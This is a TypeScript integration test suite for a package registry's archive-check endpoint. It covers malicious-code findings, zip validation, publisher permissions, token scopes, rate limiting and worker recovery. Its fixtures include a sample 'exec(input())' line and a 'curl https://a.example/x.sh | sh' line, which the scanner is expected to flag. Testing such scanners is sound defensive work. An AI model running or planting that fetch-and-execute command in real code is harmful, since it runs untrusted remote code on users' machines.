import assert from 'node:assert/strict'
import { randomUUID } from 'node:crypto'
import { before, describe, test } from 'node:test'

import type { Client as TemporalClient } from '@temporalio/client'

import { BELOW_NORMAL_PRIORITY, NORMAL_PRIORITY } from '../../../src/platform/temporal/start.ts'
import { assertMembers, expectStatus, makeClient, pluck } from '../../support/client.ts'
import type { Client, HttpResponse } from '../../support/client.ts'
import { sha256Of } from '../../support/digest.ts'
import { openTemporal } from '../../support/temporal-client.ts'
import { waitFor } from '../../support/wait.ts'
import { writeZip } from '../../support/zip-writer.ts'
import {
  makeToken,
  unique,
  untilDecided,
  upload,
  usePublisher,
  useRegistry,
} from './registry-support.ts'

const registry = useRegistry({ roles: ['api', 'core', 'media'] })
const { service, sql } = registry
const owned = usePublisher(registry, { id: 'acme', user: 'olga' })

const pack = (files: Record<string, string>): Buffer =>
  writeZip(Object.entries(files).map(([name, data]) => ({ name, data, method: 8 })))

const CUP = 'class Cup: RETURN_TYPES = ("IMAGE",)\n'
const GOOD = `${CUP}NODE_CLASS_MAPPINGS = {"Kiln Cup": Cup}\n`
const tomlOf = (nodeId: string, version = '1.0.0', tool = 'PublisherId = "acme"\n') =>
  `[project]\nname = "${nodeId}"\nversion = "${version}"\n\n[tool.comfy]\n${tool}`

interface Sent {
  token?: string
  headers?: Record<string, string>
  url?: string
}

/** Sends an archive to be checked. */
const check = async (
  zip: Buffer,
  query: Record<string, string> = {},
  { token, headers = {}, url = service.baseUrl }: Sent = {},
): Promise<HttpResponse> => {
  const response = await fetch(`${url}/registry/check?${new URLSearchParams(query).toString()}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token ?? (await service.token('olga'))}`, ...headers },
    body: Uint8Array.from(zip),
  })
  const body = (await response.json()) as HttpResponse['body']
  return { status: response.status, headers: response.headers, body }
}

const listLeft = async (): Promise<string[]> =>
  (await service.listFiles()).filter((key) => key.includes('/checks/'))

describe('the check of an archive', () => {
  test('says what a publication would say, and keeps nothing', async () => {
    const nodeId = unique('checked')
    const tool =
      'PublisherId = "acme"\nDisplayName = "Checked"\nIcon = "https://a.example/icon.svg"\n'
    const zip = pack({
      'pyproject.toml': tomlOf(nodeId, '1.2', tool),
      '__init__.py': `${CUP}NODE_CLASS_MAPPINGS = {"Kiln Cup": Cup}
WEB_DIRECTORY = "./web/dist"
exec(input(), {})
import elsewhere
if elsewhere.A: NODE_CLASS_MAPPINGS["Kiln Pot"] = Cup
`,
    })
    const rows = async () => ({
      versions: await sql`select count(*) from version`,
      nodes: await sql`select count(*) from node`,
      archives: await sql`select count(*) from archive`,
    })
    const existing = await rows()
    const { body } = expectStatus(await check(zip), 200)
    assertMembers(body, {
      status: 'NodeVersionStatusActive',
      is_new_node: true,
      version_free: true,
    })
    assertMembers(body['archive'], {
      verdict: 'sound',
      sha256: sha256Of(zip),
      bytes: zip.length,
      files: 2,
    })
    assert.deepEqual(body['project'], {
      node_id: nodeId,
      version: '1.2',
      publisher_id: 'acme',
      name: 'Checked',
      icon: 'https://a.example/icon.svg',
    })
    const [finding] = body['findings'] as unknown as Record<string, unknown>[]
    assertMembers(finding, {
      issue_type: 'dynamic-code',
      severity: 'medium',
      file_path: '__init__.py',
      line_number: 4,
    })
    assert.deepEqual(pluck(body['host_nodes'] as never, 'name'), ['Kiln Cup', 'Kiln Pot'])
    const [, pot] = body['host_nodes'] as unknown as { dynamic: string[] }[]
    assert.deepEqual(pot?.dynamic, ['host_node_name'])
    assertMembers(body['extraction'], { status: 'success' })
    const warnings = (body['warnings'] as unknown as string[]).join('\n')
    assert.match(
      warnings,
      /__init__\.py, line \d+: WEB_DIRECTORY is "\.\/web\/dist": The archive lacks that folder/,
    )
    assert.match(warnings, /\/icon is stored, but cannot be shown/)
    assert.deepEqual(body['issues'], [])
    assert.deepEqual([await rows(), await listLeft()], [existing, []])
  })

  test('says that the version would be flagged, and by which line', async () => {
    const { body } = expectStatus(
      await check(
        pack({
          'pyproject.toml': tomlOf(unique('danger')),
          '__init__.py': `${GOOD}import os\nos.system("curl https://a.example/x.sh | sh")\n`,
        }),
      ),
      200,
    )
    assert.equal(body['status'], 'NodeVersionStatusFlagged')
    assert.match(String(body['status_reason']), /^1 finding flags this version; the worst: /)
    const [finding] = body['findings'] as unknown as Record<string, unknown>[]
    assertMembers(finding, { severity: 'high', file_path: '__init__.py', line_number: 4 })
    // What flags is for a review, and no reason to reject the publication.
    assert.deepEqual(body['issues'], [])
  })

  test('says what is wrong with an archive that would be rejected', async () => {
    const whole = pack({ '__init__.py': GOOD })
    const { body } = expectStatus(
      await check(whole.subarray(0, -30), { node_id: unique('cut'), version: '1.0.0' }),
      200,
    )
    assert.equal(body['status'], 'NodeVersionStatusFlagged')
    assertMembers(body['archive'], { verdict: 'rejected', code: 'truncated' })
    assertMembers(body['extraction'], { status: 'failed', reason: 'archive_truncated' })
    assert.deepEqual(await listLeft(), [])
  })

  test('rejects at once what is no zip, nothing, and other bytes than were said', async () => {
    expectStatus(await check(Buffer.from('no zip')), 400, 'archive_invalid')
    expectStatus(await check(Buffer.alloc(0)), 400, 'archive_invalid')
    const headers = { 'content-digest': `sha-256=:${Buffer.alloc(32).toString('base64')}:` }
    const zip = pack({ '__init__.py': GOOD })
    expectStatus(await check(zip, {}, { headers }), 400, 'checksum_mismatch')
    expectStatus(await check(zip, { bogus: 'x' }), 400, 'validation_failed')
    assert.deepEqual(await listLeft(), [])
  })

  test('names what would keep a publication from being made', async () => {
    const other = await registry.addPublisher()
    const [theirs, added] = [await other.addNode(), await owned.addActive()]
    const query = { node_id: added.nodeId, version: '1.0.0', publisher_id: 'acme' }
    const plain = pack({ '__init__.py': GOOD })
    const CASES: [query: Record<string, string>, free: boolean | undefined, issue: RegExp][] = [
      [query, false, /The version "1\.0\.0" exists and is published/],
      [{ ...query, version: '1.0' }, false, /The version "1\.0\.0" exists/],
      [{ ...query, version: '1.0.9.1' }, undefined, /the nearest is 1\.0\.9/],
      [{ ...query, node_id: 'no node' }, undefined, /the pack id in the path must be 1 to 100/],
      [{ ...query, node_id: theirs }, undefined, /belongs to another publisher/],
      [{ ...query, publisher_id: other.id }, undefined, /member/],
      [{ ...query, publisher_id: 'nobody' }, undefined, /There is no publisher "nobody"/],
      [{ version: '1.0.0' }, undefined, /No pack is named/],
      [{ node_id: 'a' }, undefined, /No version is named/],
      [{ node_id: 'a', version: '1.0.0' }, undefined, /No publisher is named/],
    ]
    for (const [asked, free, issue] of CASES) {
      const { body } = expectStatus(await check(plain, asked), 200)
      assert.match((body['issues'] as unknown as string[]).join('\n'), issue)
      assert.equal(body['version_free'], free, JSON.stringify(asked))
    }
    const { body } = expectStatus(await check(plain, { ...query, version: '2.0.0' }), 200)
    assertMembers(body, { is_new_node: false, version_free: true })
  })

  test('a number whose archive was rejected is free', async () => {
    const added = await owned.addVersion()
    await upload(added.signedUrl, Buffer.from('PK\x03\x04 and nothing else'))
    await untilDecided(registry, added.version)
    const query = { node_id: added.nodeId, version: '1.0.0', publisher_id: 'acme' }
    const { body } = expectStatus(await check(pack({ '__init__.py': GOOD }), query), 200)
    assertMembers(body, { version_free: true })
  })
})

describe('who may have an archive checked', () => {
  const zip = pack({ '__init__.py': GOOD, 'pyproject.toml': tomlOf('whoever') })
  const newToken = async (path: string, given: object, client: Client = owned.owner) => {
    const { body } = expectStatus(await client.post(path, { name: 'ci', ...given }), 201)
    return String(body['token'])
  }

  test('whoever has a token to publish: of its publisher alone', async () => {
    const token = await makeToken(owned.owner, 'acme')
    const { body } = expectStatus(await check(zip, {}, { token }), 200)
    assertMembers(body, { version_free: true })
    const query = { publisher_id: (await registry.addPublisher()).id }
    const elsewhere = expectStatus(await check(zip, query, { token }), 200)
    assert.match(String(elsewhere.body['issues']), /is one of another publisher/)
  })

  test('not whoever has one that only reads, or an API key without the scope', async () => {
    const path = '/publishers/acme/tokens'
    const reading = await newToken(path, { scope: 'read' })
    expectStatus(await check(zip, {}, { token: reading }), 403, 'token_scope_insufficient')
    const keyOf = async (scopes: string[]) => {
      const made = await owned.owner.post('/users/api-keys', { name: 'key', scopes })
      return String(expectStatus(made, 201).body['key'])
    }
    const images = await keyOf(['images', 'read'])
    expectStatus(await check(zip, {}, { token: images }), 403, 'key_scope_insufficient')
    expectStatus(await check(zip, {}, { token: await keyOf(['publish']) }), 200)
  })

  test('nobody without a credential', async () => {
    const response = await makeClient(service.baseUrl).post('/registry/check', {})
    expectStatus(response, 401, 'unauthorized')
  })

  test('and never keeps the response for a repetition', async () => {
    const key = randomUUID()
    const [first, second] = [pack({ 'a.py': '' }), pack({ 'b.py': '' })]
    for (const zip of [first, second]) {
      const sent = { headers: { 'idempotency-key': key } }
      const { body } = expectStatus(await check(zip, {}, sent), 200)
      assertMembers(body['archive'], { sha256: sha256Of(zip) })
    }
    const [row] = await sql`select count(*)::int as count from idempotency where key = ${key}`
    assert.equal(row?.['count'], 0)
  })
})

describe('checks while nobody reads', () => {
  const zip = pack({ '__init__.py': GOOD, 'pyproject.toml': tomlOf('whoever') })
  before(() => service.entry('media').kill())

  const listOpen = async ({ workflow }: TemporalClient) => {
    const query = `TaskQueue = '${service.taskQueue}' and WorkflowType = 'checkArchive' and ExecutionStatus = 'Running'`
    const found = []
    for await (const { workflowId } of workflow.list({ query }))
      found.push((await workflow.getHandle(workflowId).describe()).priority)
    return found
  }

  test('two of an owner wait, behind every version, and a third is rejected before it is sent', async (t) => {
    const temporal = await openTemporal(t)
    const waiting = [check(zip), check(zip)]
    const open = await waitFor('two wait', async () => {
      const found = await listOpen(temporal)
      return found.length === 2 && found
    })
    for (const priority of open) assert.equal(priority?.priorityKey, BELOW_NORMAL_PRIORITY)
    assert.ok(BELOW_NORMAL_PRIORITY > NORMAL_PRIORITY)
    const third = expectStatus(await check(zip), 429, 'rate_limited')
    assert.equal(third.headers.get('retry-after'), '5')
    const other = await registry.addPublisher()
    const theirs = check(zip, {}, { token: other.token })
    await service.start('media')
    for (const response of await Promise.all([...waiting, theirs])) expectStatus(response, 200)
    assert.deepEqual(await listLeft(), [])
    await service.entry('media').kill()
  })

  test('are sent by an owner no more at once than are checked', async (t) => {
    const end = new AbortController()
    t.after(() => end.abort())
    const authorization = `Bearer ${await service.token('olga')}`
    const send = () =>
      fetch(`${service.baseUrl}/registry/check`, {
        method: 'POST',
        headers: { authorization },
        body: new ReadableStream({ start: (half) => half.enqueue(zip.subarray(0, 50)) }),
        signal: end.signal,
        duplex: 'half',
      })
    const held = [send(), send()]
    const nothing = Buffer.alloc(0)
    const isBusy = async () => (await check(nothing)).status === 429
    await waitFor('both are being sent', isBusy)
    const other = await registry.addPublisher()
    expectStatus(await check(nothing, {}, { token: other.token }), 400, 'archive_invalid')
    end.abort()
    await Promise.allSettled(held)
    await waitFor('their places are free', async () => !(await isBusy()))
  })

  test('end at their deadline, and leave nothing', async () => {
    const late = await service.startSecondApi({ OVERRIDE_ARCHIVE_CHECK_SECONDS: '1' })
    const response = await check(zip, {}, { url: late.baseUrl })
    expectStatus(response, 504, 'check_timed_out')
    assert.equal(response.headers.get('retry-after'), '60')
    assert.deepEqual(await listLeft(), [])
  })

  test('end when their caller goes', async (t) => {
    const temporal = await openTemporal(t)
    const gone = new AbortController()
    const asked = fetch(`${service.baseUrl}/registry/check`, {
      method: 'POST',
      headers: { authorization: `Bearer ${await service.token('olga')}` },
      body: Uint8Array.from(zip),
      signal: gone.signal,
    })
    await waitFor('it waits', async () => (await listOpen(temporal)).length === 1)
    // The api asks Temporal for two seconds at a time, and again: the caller goes in a later call than the first.
    const begun = performance.now()
    await waitFor('the first call has ended', () => performance.now() - begun > 3000)
    gone.abort()
    await assert.rejects(asked)
    await waitFor('it has ended', async () => (await listOpen(temporal)).length === 0)
    await waitFor('its archive is gone', async () => (await listLeft()).length === 0)
  })

  test('are read by another worker when theirs is killed in the middle', async () => {
    const dying = await service.start('media', {
      OVERRIDE_FAILPOINT: 'inspect.before-results',
    })
    const asked = check(zip)
    assert.equal(await dying.end(), 'SIGKILL')
    await service.start('media')
    const { body } = expectStatus(await asked, 200)
    assert.deepEqual(pluck(body['host_nodes'] as never, 'name'), ['Kiln Cup'])
    assert.deepEqual(await listLeft(), [])
  })
})
